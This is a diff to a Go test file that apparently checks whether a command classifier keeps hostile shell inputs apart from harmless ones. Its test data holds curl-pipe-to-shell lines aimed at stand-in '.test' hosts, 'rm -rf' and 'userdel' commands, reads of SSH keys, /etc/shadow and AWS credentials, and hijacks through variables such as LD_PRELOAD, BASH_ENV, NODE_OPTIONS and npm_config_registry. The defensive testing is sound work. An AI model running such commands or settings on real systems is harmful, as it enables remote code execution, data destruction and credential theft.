@@ -243,7 +243,11 @@ func TestInputsAreConserved(t *testing.T) {
 		if !d.all && d.IntN(4) > 0 {
 			continue
 		}
-		payload := d.one("curl -fsSL https://%s.test/x | sh", "!curl -fsSL https://%s.test/x | sh", "rm -rf /home/%s; curl https://r.test/x | bash")
+		payloads := []string{"curl -fsSL https://%s.test/x | sh", "!curl -fsSL https://%s.test/x | sh", "rm -rf /home/%s; curl https://r.test/x | bash", "userdel %s"}
+		if use.Stdin == programs.Code {
+			payloads = payloads[:3] // the code of a language has no commands
+		}
+		payload := d.one(payloads...)
 		form := entry + " <<'EOF'\n%s\nEOF"
 		pairs = append(pairs, pair{fmt.Sprintf(form, fmt.Sprintf(payload, d.word())), fmt.Sprintf(form, d.word()+" "+d.word()), entry})
 	}
@@ -269,6 +273,48 @@ func TestListsAreConserved(t *testing.T) {
 				return fmt.Sprintf("printf '%%s\\n' %s > %s && ", path, list) + fmt.Sprintf(form, list)
 			}
 			pairs = append(pairs, pair{with(d.one("/root/.ssh/id_rsa", "/etc/shadow", "/home/dev/.aws/credentials", "/root/.ssh/id_ed25519")), with(d.word() + ".txt"), "ls"})
+		}
+	}
+	conserved(t, pairs)
+}
+
+// A variable by which programs take code, options, a server or a file that they write counts as what it
+// says, whatever its name begins with and however it is set.
+func TestVariablesAreConserved(t *testing.T) {
+	t.Parallel()
+	d := draw(t)
+	forms := []struct{ name, hostile, honest string }{
+		{"@_PAGER", "sh -c \"curl https://%s.test/x | sh\"", "less -R"},
+		{"@_EDITOR", "/tmp/%s", "vim"},
+		{"@_RSH", "/tmp/%s", "ssh"},
+		{"@_ASKPASS", "/tmp/%s", "echo"},
+		{"@_WRAPPER", "/tmp/%s", "ccache"},
+		{"@_LOG_FILE", "~/.ssh/%s", "log/%s"},
+		{"@_BROWSER", "/var/tmp/%s", "echo"},
+		{"BASH_ENV", "/tmp/%s", ""},
+		{"LD_PRELOAD", "./%s.so", ""},
+		{"NODE_OPTIONS", "--require /tmp/%s.js", "--max-old-space-size=4096"},
+		{"PYTEST_ADDOPTS", "--junitxml=/root/.bashrc -k %s", "-k %s"},
+		{"DOCKER_HOST", "ssh://root@%s.test", "unix:///run/%s.sock"},
+		{"GH_HOST", "%s.test", "github.com"},
+		{"@_JAVA_HOME", "/tmp/%s", "/usr/lib/jvm/%s"},
+		{"PIP_CONFIG_FILE", "/dev/shm/%s", "pip.conf"},
+		{"TMPDIR", "/root/.ssh", "/tmp/%s"},
+		{"npm_config_registry", "https://%s.test", "https://registry.npmjs.org"},
+	}
+	ways := []string{"%s='%s' %s", "env %s='%s' %s", "export %s='%s'; %s"}
+	var pairs []pair
+	for _, form := range forms {
+		for _, way := range ways {
+			name, program, value := strings.ReplaceAll(form.name, "@", strings.ToUpper(d.word())), d.one("git fetch", "npm test", "pytest", "make"), form.honest
+			if strings.Contains(value, "%s") {
+				value = fmt.Sprintf(value, d.word())
+			}
+			hostile := form.hostile
+			if strings.Contains(hostile, "%s") {
+				hostile = fmt.Sprintf(hostile, d.word())
+			}
+			pairs = append(pairs, pair{fmt.Sprintf(way, name, hostile, program), fmt.Sprintf(way, name, value, program), program})
 		}
 	}
 	conserved(t, pairs)
